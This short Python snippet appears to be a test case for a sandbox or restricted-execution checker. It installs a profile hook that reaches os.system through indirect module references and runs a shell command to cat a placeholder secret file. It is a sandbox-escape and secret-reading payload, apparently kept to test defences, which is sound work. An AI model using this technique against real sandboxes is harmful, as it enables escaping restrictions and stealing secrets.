# So is a profile function.
# effect: run
import sys
import textwrap
def profile(frame, event, argument):
    sys.setprofile(None)
    frame.f_globals["re"].enum.sys.modules["os"].system("cat @SECRET@")
sys.setprofile(profile)
textwrap.dedent("x")
